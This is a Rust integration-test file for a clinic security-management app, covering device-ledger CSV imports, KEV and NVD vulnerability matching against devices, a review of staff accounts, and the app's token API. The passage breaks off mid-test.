//! The registers: the device ledger and known vulnerabilities, registers kept as rows, the accounts review.

use crate::support::*;

#[tokio::test]
async fn a_device_ledger_from_japanese_excel_meets_the_kev_and_shows_on_the_checklist() {
    let app = App::new().await;
    let mut admin = app.setup().await;
    let mut manager = app
        .user(&mut admin, "csm@mamori.test", &["security_manager"])
        .await;
    let mut staff = app.user(&mut admin, "nurse@mamori.test", &["staff"]).await;
    assert_eq!(
        app.get(&mut staff, "/registers/devices").await.status,
        StatusCode::FORBIDDEN
    );

    // A Shift_JIS CSV as Japanese Excel saves it, with one bad row: nothing is taken.
    let bad = "名称,種別,設置場所,メーカー,製品・型番,バージョン,インターネット接続,サポート終了日\n\
               VPN-01,ネットワーク機器,サーバ室,Fortinet,FortiGate 60F,6.0.4,はい,2026-12-31\n\
               PC-07,端末,外来,NEC,Mate,Win10,いいえ,来年\n";
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(bad);
    let csrf = app
        .get(&mut manager, "/registers/devices")
        .await
        .hidden("csrf");
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/devices/import",
            &[("csrf", &csrf)],
            &[("file", "devices.csv", &sjis)],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body.contains("<td>3</td>") && r.body.contains("H (サポート終了日)"),
        "{}",
        r.body
    );
    assert!(
        app.store
            .devices(app.store.org_directory().await.expect("orgs")[0].id)
            .await
            .expect("devices")
            .is_empty()
    );
    let good = bad.replace("来年", "2025-10-14");
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(&good);
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/devices/import",
            &[("csrf", &csrf)],
            &[("file", "devices.csv", &sjis)],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(r.location(), "/registers/devices?imported=2-0");
    let list = app.get(&mut manager, "/registers/devices").await;
    assert!(list.body.contains("FortiGate 60F") && list.body.contains("PC-07"));
    let csv = app.get(&mut manager, "/registers/devices/export.csv").await;
    assert!(csv.body.contains("VPN-01") && csv.body.contains("ネットワーク機器"));
    let xlsx = app
        .get(&mut manager, "/registers/devices/export.xlsx")
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);

    // Vulnerability files: a wrong file is refused; KEV and NVD are taken and merged.
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/findings/import",
            &[("csrf", &csrf)],
            &[("file", "x.json", b"{\"a\": 1}")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("id=\"feed-error\""));
    for (name, bytes) in [
        (
            "kev.json",
            &include_bytes!("../../../../testdata/vuln/kev-slice.json")[..],
        ),
        (
            "nvd.json",
            &include_bytes!("../../../../testdata/vuln/nvd-sample.json")[..],
        ),
        (
            "jvn.json",
            &include_bytes!("../../../../testdata/vuln/jvn-overview-oka.json")[..],
        ),
    ] {
        let r = app
            .post_multipart(
                &mut manager,
                "/registers/findings/import",
                &[("csrf", &csrf)],
                &[("file", name, bytes)],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{name}: {}", r.body);
    }
    let page = app.get(&mut manager, "/registers/findings").await;
    let table = &page.body[page.body.find("id=\"findings-table\"").expect("findings")..];
    let first_row = &table[table.find("<tr id=\"finding-").expect("a finding")..];
    let first_row = &first_row[..first_row.find("</tr>").unwrap_or(0)];
    assert!(
        first_row.contains("VPN-01") && first_row.contains("KEV"),
        "{first_row}"
    );
    assert!(page.body.contains("CVE-2018-13379"));
    assert!(
        first_row.contains("一致の根拠: cpe:2.3:o:fortinet:fortios:*:*: 6.0.0 ≤ 6.0.4 &#60; 6.0.5"),
        "each finding says what it matched on: {first_row}"
    );

    // Accepting with a reason closes the finding.
    let vpn = app
        .store
        .devices(app.store.org_directory().await.expect("orgs")[0].id)
        .await
        .expect("devices")
        .into_iter()
        .find(|d| d.device.name == "VPN-01")
        .expect("vpn");
    let r = app
        .post(
            &mut manager,
            &format!("/registers/findings/{}/CVE-2018-13379", vpn.id),
            &[("csrf", &csrf), ("action", "accept"), ("reason", "")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post(
            &mut manager,
            &format!("/registers/findings/{}/CVE-2018-13379", vpn.id),
            &[
                ("csrf", &csrf),
                ("action", "patched"),
                ("patched_on", "2026-04-30"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let page = app.get(&mut manager, "/registers/findings").await;
    let closed = &page.body[page.body.find("id=\"closed-findings\"").expect("closed")..];
    assert!(closed.contains("CVE-2018-13379") && closed.contains("2026-04-30"));

    // The checklist item on the device ledger shows the ledger's state.
    let r = app
        .submit(
            &mut manager,
            "/registers/devices",
            "/registers/devices/review",
            &[("note", "廃棄済みPCを削除")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let r = app
        .submit(
            &mut manager,
            "/assessments",
            "/assessments",
            &[("sheet", "fy2025.institution"), ("title", "")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let sheet = app.get(&mut manager, r.location()).await;
    let item = &sheet.body[sheet
        .body
        .find("id=\"item-fy2025.institution.2-01\"")
        .expect("2-01")..];
    let item = &item[..item.find("</tr>").unwrap_or(0)];
    assert!(
        item.contains("機器台帳 2台") && item.contains("最終棚卸し 2026-05-01"),
        "{item}"
    );
    assert!(
        item.contains("サポート終了 1"),
        "PC-07 ended 2025-10-14: {item}"
    );

    // Another organisation sees none of it.
    let mut other = app.other_clinic(&mut admin).await;
    assert_eq!(
        app.get(&mut other, &format!("/registers/devices/{}", vpn.id))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert!(
        !app.get(&mut other, "/registers/findings")
            .await
            .body
            .contains("CVE-2018-13379")
    );
}

#[tokio::test]
async fn remote_lines_backups_and_restore_tests_are_registers_that_speak_on_the_checklist() {
    let app = App::new().await;
    let mut admin = app.setup().await;
    let mut manager = app
        .user(&mut admin, "csm@mamori.test", &["security_manager"])
        .await;
    assert_eq!(
        app.get(&mut manager, "/registers/nonsense").await.status,
        StatusCode::NOT_FOUND
    );
    // A form keeps what was typed when refused.
    let r = app
        .submit(
            &mut manager,
            "/registers/remote_connections/new",
            "/registers/remote_connections",
            &[
                ("name", "給食業者VPN"),
                ("kind", ""),
                ("last_review", "昨日"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body.contains("給食業者VPN")
            && r.body.contains("選択してください")
            && r.body.contains("YYYY-MM-DD")
    );
    let r = app
        .submit(
            &mut manager,
            "/registers/remote_connections/new",
            "/registers/remote_connections",
            &[
                ("name", "給食業者VPN"),
                ("kind", "partner"),
                ("vendor", "給食サービス株式会社"),
                ("always_on", "on"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let dup = app
        .submit(
            &mut manager,
            "/registers/remote_connections/new",
            "/registers/remote_connections",
            &[("name", "給食業者VPN"), ("kind", "vpn")],
        )
        .await;
    assert_eq!(dup.status, StatusCode::UNPROCESSABLE_ENTITY);

    // Backups imported from a table; a bad cell refuses it all.
    let csrf = app
        .get(&mut manager, "/registers/backups")
        .await
        .hidden("csrf");
    let bad =
        "システム・対象データ,保存世代数,オフライン保管あり\n電子カルテ,7,はい\nPACS,七,いいえ\n";
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/backups/import",
            &[("csrf", &csrf)],
            &[("file", "b.csv", bad.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body.contains("<td>3</td>") && r.body.contains("B (保存世代数)"),
        "{}",
        r.body
    );
    let good = bad.replace("七", "3");
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/backups/import",
            &[("csrf", &csrf)],
            &[("file", "b.csv", good.as_bytes())],
        )
        .await;
    assert_eq!(r.location(), "/registers/backups?imported=2-0");
    let csv = app.get(&mut manager, "/registers/backups/export.csv").await;
    assert!(csv.body.contains("PACS,,3,いいえ"), "{}", csv.body);

    // The checklist shows the registers beside 2-② and 3-②.
    let r = app
        .submit(
            &mut manager,
            "/assessments",
            "/assessments",
            &[("sheet", "fy2025.institution"), ("title", "")],
        )
        .await;
    let sheet = app.get(&mut manager, r.location()).await;
    let item = |id: &str| {
        let at = sheet
            .body
            .find(&format!("id=\"item-fy2025.institution.{id}\""))
            .expect("item");
        let rest = &sheet.body[at..];
        rest[..rest.find("</tr>").unwrap_or(0)].to_string()
    };
    assert!(
        item("2-02").contains("リモート接続 1件") && item("2-02").contains("二要素認証なし 1"),
        "{}",
        item("2-02")
    );
    let backups = item("3-02");
    assert!(
        backups.contains("バックアップ 2件") && backups.contains("今年度の復旧テストの記録なし"),
        "{backups}"
    );
    let r = app
        .submit(
            &mut manager,
            "/registers/restore_tests/new",
            "/registers/restore_tests",
            &[
                ("name", "電子カルテ復元訓練"),
                ("tested_on", "2026-04-20"),
                ("result", "success"),
                ("hours", "6"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let index = app.get(&mut manager, "/registers").await;
    assert!(
        index.body.contains("今年度の復旧テスト 1"),
        "{}",
        index.body
    );

    // History keeps who changed what.
    let org = app
        .store
        .org_directory()
        .await
        .expect("orgs")
        .into_iter()
        .find(|o| o.home)
        .expect("home");
    let line = app
        .store
        .ledger_rows(org.id, "remote_connections")
        .await
        .expect("rows")
        .remove(0);
    let path = format!("/registers/remote_connections/{}", line.id);
    let r = app
        .submit(
            &mut manager,
            &path,
            &path,
            &[
                ("name", "給食業者VPN"),
                ("kind", "partner"),
                ("two_factor", "on"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let page = app.get(&mut manager, &path).await;
    assert!(
        page.body.contains("id=\"row-history\"")
            && page.body.contains("update")
            && page.body.contains("csm@mamori.test")
    );
    // The vendor sheets of the self-assessment show beside the vendors register.
    let r = app
        .submit(
            &mut manager,
            "/assessments",
            "/assessments",
            &[
                ("sheet", "fy2025.vendor"),
                ("title", "守りシステム 電子カルテ"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let vendors = app.get(&mut manager, "/registers/vendors").await;
    let sheets = &vendors.body[vendors
        .body
        .find("id=\"vendor-sheets\"")
        .expect("vendor sheets")..];
    assert!(
        sheets.contains("守りシステム 電子カルテ") && sheets.contains("未依頼"),
        "{sheets}"
    );
    // A vendor's MDS/SDS is attached to its row and downloaded as an attachment.
    let r = app
        .submit(
            &mut manager,
            "/registers/vendors/new",
            "/registers/vendors",
            &[
                ("name", "守りシステム 電子カルテ"),
                ("mds_version", "2.0"),
                ("mds_received", "2026-04-01"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let vendor = app
        .store
        .ledger_rows(org.id, "vendors")
        .await
        .expect("vendors")
        .remove(0);
    let vendor_path = format!("/registers/vendors/{}", vendor.id);
    let r = app
        .post_multipart(
            &mut manager,
            &format!("{vendor_path}/files"),
            &[("csrf", &csrf)],
            &[("file", "MDS_v2.pdf", b"%PDF-1.4 mds")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = app.get(&mut manager, &vendor_path).await;
    let link = &page.body[page.body.find("id=\"row-files\"").expect("files")..];
    assert!(link.contains("MDS_v2.pdf"));
    let href = link[link.find("href=\"").expect("href") + 6..]
        .split('"')
        .next()
        .unwrap_or("")
        .to_string();
    let dl = app.get(&mut manager, &href).await;
    assert_eq!(dl.body, "%PDF-1.4 mds");
    assert!(
        dl.headers[header::CONTENT_DISPOSITION]
            .to_str()
            .expect("cd")
            .starts_with("attachment")
    );
    let mut other = app.other_clinic(&mut admin).await;
    assert_eq!(
        app.get(&mut other, &path).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get(&mut other, &href).await.status,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn user_lists_are_mapped_once_per_system_and_flag_leavers_unused_shared_and_admins() {
    let app = App::new().await;
    let mut admin = app.setup().await;
    let mut manager = app
        .user(&mut admin, "csm@mamori.test", &["security_manager"])
        .await;
    let csrf = app
        .get(&mut manager, "/registers/accounts")
        .await
        .hidden("csrf");
    let staff = "職員番号,氏名,退職日\n1001,山田 太郎,\n1002,佐藤 花子,2026/03/31\n";
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/accounts/staff",
            &[("csrf", &csrf)],
            &[("file", "staff.csv", staff.as_bytes())],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let emr = "利用者ID,利用者名,職員CD,最終ログイン,権限区分\n\
               t.yamada,山田 太郎,1001,2026/04/30 08:12,一般\n\
               h.sato,佐藤 花子,1002,2026/03/30 17:00,一般\n\
               kyoyu01,外来共用,,2026/04/30 09:00,管理者\n\
               k.ito,伊藤 次郎,1003,2025/12/01,一般\n";
    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode(emr);
    // First time: the mapping is asked for, with sensible guesses.
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/accounts/import",
            &[("csrf", &csrf), ("system", "電子カルテ")],
            &[("file", "emr.csv", &sjis)],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        r.body.contains("id=\"mapping-form\"")
            && r.body.contains("<option value=\"利用者ID\" selected>"),
        "{}",
        r.body
    );
    let data = r
        .hidden("data")
        .replace("&#10;", "\n")
        .replace("&#13;", "\r");
    let data = html_unescape(&data);
    let r = app
        .post(
            &mut manager,
            "/registers/accounts/map",
            &[
                ("csrf", &csrf),
                ("system", "電子カルテ"),
                ("data", &data),
                ("map_login", "利用者ID"),
                ("map_name", "利用者名"),
                ("map_employee_id", "職員CD"),
                ("map_last_login", "最終ログイン"),
                ("map_admin", "権限区分"),
                ("map_disabled", ""),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = app.get(&mut manager, "/registers/accounts").await;
    let flagged = &page.body[page.body.find("id=\"flagged-accounts\"").expect("flagged")..];
    assert!(
        flagged.contains("h.sato") && flagged.contains("退職者"),
        "{flagged}"
    );
    assert!(
        flagged.contains("k.ito")
            && flagged.contains("長期未使用")
            && flagged.contains("職員名簿にない")
    );
    assert!(
        flagged.contains("kyoyu01")
            && flagged.contains("共用の疑い")
            && flagged.contains("管理者権限")
    );
    assert!(!flagged.contains("t.yamada"));
    // Next export of the same system: imported at once through the remembered mapping.
    let r = app
        .post_multipart(
            &mut manager,
            "/registers/accounts/import",
            &[("csrf", &csrf), ("system", "電子カルテ")],
            &[("file", "emr.csv", &sjis)],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(r.location(), "/registers/accounts?imported=4");
    // Fewer days: more accounts unused.
    let r = app
        .post(
            &mut manager,
            "/registers/accounts/settings",
            &[("csrf", &csrf), ("unused_days", "0")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let csv = app
        .get(&mut manager, "/registers/accounts/flagged.csv")
        .await;
    assert!(
        csv.body.contains("h.sato")
            && csv.body.contains("退職者")
            && !csv.body.contains("t.yamada")
    );
    let r = app
        .post(
            &mut manager,
            "/registers/accounts/review",
            &[("csrf", &csrf), ("note", "h.sato を停止予定")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let r = app
        .submit(
            &mut manager,
            "/assessments",
            "/assessments",
            &[("sheet", "fy2025.institution"), ("title", "")],
        )
        .await;
    let sheet = app.get(&mut manager, r.location()).await;
    let at = sheet
        .body
        .find("id=\"item-fy2025.institution.2-05-server\"")
        .expect("2-05");
    let item = &sheet.body[at..at + sheet.body[at..].find("</tr>").unwrap_or(0)];
    assert!(
        item.contains("アカウント 4件 (システム 1)")
            && item.contains("退職者 1")
            && item.contains("最終棚卸し 2026-05-01"),
        "{item}"
    );
}

#[tokio::test]
async fn a_device_a_remote_line_reaches_in_through_counts_as_an_entrance() {
    let app = App::new().await;
    let mut admin = app.setup().await;
    let r = app
        .submit(
            &mut admin,
            "/registers/devices/new",
            "/registers/devices",
            &[
                ("kind", "network"),
                ("name", "保守GW"),
                ("vendor", "Fortinet"),
                ("product", "FortiGate 40F"),
                ("version", "6.0.4"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let csrf = app
        .get(&mut admin, "/registers/findings")
        .await
        .hidden("csrf");
    let kev = include_bytes!("../../../../testdata/vuln/kev-slice.json");
    let r = app
        .post_multipart(
            &mut admin,
            "/registers/findings/import",
            &[("csrf", &csrf)],
            &[("file", "kev.json", &kev[..])],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let row = |body: &str| {
        let t = &body[body.find("id=\"findings-table\"").expect("findings")..];
        let r = &t[t.find("<tr id=\"finding-").expect("row")..];
        r[..r.find("</tr>").unwrap_or(0)].to_string()
    };
    assert!(!row(&app.get(&mut admin, "/registers/findings").await.body).contains("外部公開"));
    // The dashboard's risk card names KEV flaws only on devices reachable from outside.
    let risk = |body: &str| {
        let t = &body[body.find("id=\"risk-card\"").expect("risk card")..];
        t[..t.find("</section>").unwrap_or(t.len())].to_string()
    };
    assert!(!risk(&app.get(&mut admin, "/").await.body).contains("保守GW"));
    let r = app
        .submit(
            &mut admin,
            "/registers/remote_connections/new",
            "/registers/remote_connections",
            &[
                ("name", "電子カルテ保守回線"),
                ("kind", "vendor_maintenance"),
                ("device", "保守GW"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let first = row(&app.get(&mut admin, "/registers/findings").await.body);
    assert!(
        first.contains("保守GW") && first.contains("外部公開") && first.contains("KEV"),
        "{first}"
    );
    let card = risk(&app.get(&mut admin, "/").await.body);
    assert!(card.contains("保守GW") && card.contains("CVE-"), "{card}");
    // A decision on the finding takes it off the card.
    let page = app.get(&mut admin, "/registers/findings").await;
    let cve = {
        let t = &page.body[page.body.find("保守GW").expect("row")..];
        let c = &t[t.find("CVE-").expect("cve")..];
        c[..c
            .find(|ch: char| !(ch.is_ascii_alphanumeric() || ch == '-'))
            .unwrap_or(c.len())]
            .to_string()
    };
    let device = app
        .api(
            &app.token(&mut admin).await,
            "GET",
            "/api/v1/registers/devices",
            None,
        )
        .await
        .json()[0]["id"]
        .as_str()
        .expect("device id")
        .to_string();
    let r = app
        .submit(
            &mut admin,
            "/registers/findings",
            &format!("/registers/findings/{device}/{cve}"),
            &[("action", "accept"), ("reason", "閉域網内で代替策あり")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let card = risk(&app.get(&mut admin, "/").await.body);
    assert!(!card.contains(&cve), "{card}");
}

/// An asset tool keeps the registers through the token API: devices with their history, tables
/// imported all or nothing, reviews, rows with files, the accounts review through a mapping,
/// vulnerability feeds and decisions on findings — with the pages' permissions and errors.
#[tokio::test]
async fn an_asset_tool_keeps_the_registers_through_the_api() {
    use serde_json::json;
    let app = App::new().await;
    let mut admin = app.setup().await;
    let mut op = app
        .user(&mut admin, "it@mamori.test", &["system_operator"])
        .await;
    let mut exec = app
        .user(&mut admin, "dir@mamori.test", &["executive"])
        .await;
    let mut nurse = app.user(&mut admin, "nurse@mamori.test", &["staff"]).await;
    let t = app.token(&mut op).await;
    let e = app.token(&mut exec).await;
    let s = app.token(&mut nurse).await;

    let r = app
        .api(
            &t,
            "POST",
            "/api/v1/registers/devices",
            Some(json!({"kind": "network"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["fields"][0]["field"], "name");
    let vpn = json!({"kind": "network", "name": "VPN-01", "vendor": "Fortinet", "product": "FortiGate 60F", "version": "6.0.4", "internet_facing": true});
    let r = app
        .api(&t, "POST", "/api/v1/registers/devices", Some(vpn.clone()))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let device = r.json()["id"].as_str().unwrap_or_default().to_string();
    assert_eq!(r.json()["internet_facing"], true);
    let r = app
        .api(&t, "POST", "/api/v1/registers/devices", Some(vpn.clone()))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        r.json()["error"]["fields"][0]["code"],
        "error.device_name_taken"
    );
    // The list comes whole or in pages, with the ledger's size.
    for name in ["PC-01", "PC-02"] {
        let r = app
            .api(
                &t,
                "POST",
                "/api/v1/registers/devices",
                Some(json!({"kind": "terminal", "name": name})),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    }
    let page = app
        .api(
            &t,
            "GET",
            "/api/v1/registers/devices?limit=2&offset=1",
            None,
        )
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let names: Vec<String> = page
        .json()
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|d| d["name"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(names, ["PC-02", "VPN-01"]);
    assert_eq!(
        page.headers
            .get("x-total-count")
            .and_then(|v| v.to_str().ok()),
        Some("3")
    );
    let whole = app.api(&t, "GET", "/api/v1/registers/devices", None).await;
    assert_eq!(whole.json().as_array().map(Vec::len), Some(3));
    let bad = app
        .api(&t, "GET", "/api/v1/registers/devices?limit=0", None)
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(bad.json()["error"]["fields"][0]["field"], "limit");
    for name in ["PC-01", "PC-02"] {
        let list = app.api(&t, "GET", "/api/v1/registers/devices", None).await;
        let id = list
            .json()
            .as_array()
            .and_then(|a| {
                a.iter()
                    .find(|d| d["name"] == name)
                    .map(|d| d["id"].clone())
            })
            .and_then(|v| v.as_str().map(str::to_string))
            .unwrap_or_default();
        let r = app
            .api(
                &t,
                "DELETE",
                &format!("/api/v1/registers/devices/{id}"),
                None,
            )
            .await;
        assert!(r.status.is_success(), "{}", r.body);
    }
    let mut newer = vpn.clone();
    newer["version"] = json!("6.0.18");
    let r = app
        .api(
            &t,
            "PUT",
            &format!("/api/v1/registers/devices/{device}"),
            Some(newer),
        )
        .await;
    assert_eq!(r.json()["version"], "6.0.18");
    let r = app
        .api(
            &t,
            "GET",
            &format!("/api/v1/registers/devices/{device}"),
            None,
        )
        .await;
    assert_eq!(r.json()["history"].as_array().map(Vec::len), Some(2));
    assert_eq!(
        app.api(
            &e,
            "PUT",
            &format!("/api/v1/registers/devices/{device}"),
            Some(vpn.clone())
        )
        .await
        .status,
        StatusCode::FORBIDDEN,
        "executives read the registers, they do not keep them"
    );
    assert_eq!(
        app.api(&e, "GET", "/api/v1/registers/devices", None)
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(
        app.api(&s, "GET", "/api/v1/registers/devices", None)
            .await
            .status,
        StatusCode::FORBIDDEN
    );

    // A table with a bad row is refused by row and column, and nothing of it is written.
    let bad = "名称,種別,バージョン\nPC-01,端末,11\nPC-02,冷蔵庫,11\n";
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/registers/devices/import",
        &[("d.csv", bad.as_bytes())],
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(r.json()["error"]["fields"][0]["field"], "B3");
    let listed = app.api(&t, "GET", "/api/v1/registers/devices", None).await;
    assert_eq!(listed.json().as_array().map(Vec::len), Some(1));
    let good = "名称,種別,メーカー,製品・型番,バージョン,インターネット接続\nPC-01,端末,,,11,\nVPN-01,ネットワーク機器,Fortinet,FortiGate 60F,6.0.4,はい\n";
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/registers/devices/import",
        &[("d.csv", good.as_bytes())],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(
        (r.json()["added"].as_u64(), r.json()["updated"].as_u64()),
        (Some(1), Some(1))
    );
    let csv = app
        .api(&t, "GET", "/api/v1/registers/devices/export.csv", None)
        .await;
    assert!(csv.body.contains("PC-01") && csv.body.contains("VPN-01"));
    let r = app
        .api(
            &t,
            "POST",
            "/api/v1/registers/devices/review",
            Some(json!({"note": "棚卸し完了"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.json()["reviewed_on"], "2026-05-01");

    // A remote line without two-factor authentication is a concern of its register.
    let r = app
        .api(
            &t,
            "POST",
            "/api/v1/registers/remote_connections",
            Some(json!({"fields": {"name": "保守回線", "kind": "vendor_maintenance", "device": "VPN-01"}})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let row = r.json()["id"].as_str().unwrap_or_default().to_string();
    let states = app.api(&e, "GET", "/api/v1/registers", None).await;
    let lines = states
        .json()
        .as_array()
        .and_then(|a| {
            a.iter()
                .find(|x| x["code"] == "remote_connections")
                .cloned()
        })
        .unwrap_or_default();
    assert_eq!(lines["count"], 1);
    assert_eq!(lines["concerns"][0]["code"], "without_two_factor");
    let devices = states
        .json()
        .as_array()
        .and_then(|a| a.iter().find(|x| x["code"] == "devices").cloned())
        .unwrap_or_default();
    assert_eq!(devices["last_reviewed_on"], "2026-05-01");
    let r = api_multipart(
        &app,
        &t,
        &format!("/api/v1/registers/remote_connections/{row}/files"),
        &[("契約書.pdf", b"%PDF contract")],
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let file = r.json()["id"].as_str().unwrap_or_default().to_string();
    let r = app
        .api(
            &e,
            "GET",
            &format!("/api/v1/registers/remote_connections/{row}/files/{file}"),
            None,
        )
        .await;
    assert_eq!(r.body, "%PDF contract");
    assert_eq!(
        app.api(
            &t,
            "DELETE",
            &format!("/api/v1/registers/remote_connections/{row}"),
            None
        )
        .await
        .status,
        StatusCode::NO_CONTENT
    );

    // The accounts review reads a system's list through a mapping, remembered for next time.
    let users = "ユーザID,表示名,最終ログイン\ntanaka,田中,2026-04-30\nshared01,共用,\n";
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/accounts-review/import",
        &[("emr.csv", users.as_bytes())],
    )
    .await;
    assert_eq!(
        r.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "the system is named"
    );
    let r = accounts_import(&app, &t, &[("system", "電子カルテ")], users).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["fields"][0]["field"], "map_login");
    let mapped = [
        ("system", "電子カルテ"),
        ("map_login", "ユーザID"),
        ("map_name", "表示名"),
        ("map_last_login", "最終ログイン"),
    ];
    let r = accounts_import(&app, &t, &mapped, users).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["imported"], 2);
    let r = accounts_import(&app, &t, &[("system", "電子カルテ")], users).await;
    assert_eq!(r.json()["imported"], 2, "the mapping is remembered");
    let review = app.api(&e, "GET", "/api/v1/accounts-review", None).await;
    assert_eq!(review.json()["total"], 2);
    assert!(
        review.json()["flagged"]
            .as_array()
            .is_some_and(|a| a.iter().any(|f| f["login"] == "shared01"
                && f["flags"]
                    .as_array()
                    .is_some_and(|x| x.contains(&json!("shared"))))),
        "{}",
        review.body
    );
    let r = app
        .api(
            &t,
            "PUT",
            "/api/v1/accounts-review/settings",
            Some(json!({"unused_days": 0})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .api(
            &t,
            "PUT",
            "/api/v1/accounts-review/settings",
            Some(json!({"unused_days": 30})),
        )
        .await;
    assert_eq!(r.json()["unused_days"], 30);

    // Vulnerability data in, findings out, riskiest first, and decisions on them.
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/vulnerabilities/import",
        &[("x.json", b"{}")],
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["code"], "unreadable");
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/vulnerabilities/import",
        &[(
            "kev.json",
            include_bytes!("../../../../testdata/vuln/kev-slice.json"),
        )],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.json()["records"].as_u64().unwrap_or_default() > 0);
    let r = api_multipart(
        &app,
        &t,
        "/api/v1/vulnerabilities/import",
        &[(
            "nvd.json",
            include_bytes!("../../../../testdata/vuln/nvd-sample.json"),
        )],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let findings = app.api(&e, "GET", "/api/v1/findings", None).await;
    let first = findings.json()[0].clone();
    assert_eq!(
        (first["device"].as_str(), first["kev"].as_bool()),
        (Some("VPN-01"), Some(true))
    );
    assert!(
        first["why"]["cpe"]
            .as_str()
            .is_some_and(|c| c.starts_with("cpe:2.3:"))
            && first["why"]["rule"] == "range"
            && first["why"]["text"] == "cpe:2.3:o:fortinet:fortios:*:*: 6.0.0 ≤ 6.0.4 < 6.0.5",
        "{first}"
    );
    let cve = first["cve"].as_str().unwrap_or_default().to_string();
    let at = format!("/api/v1/findings/{device}/{cve}");
    let r = app
        .api(&t, "PUT", &at, Some(json!({"action": "accept"})))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["error"]["fields"][0]["field"], "reason");
    let r = app
        .api(
            &t,
            "PUT",
            &at,
            Some(json!({"action": "patched", "patched_on": "2026-04-30"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    let findings = app.api(&e, "GET", "/api/v1/findings", None).await;
    let decided = findings
        .json()
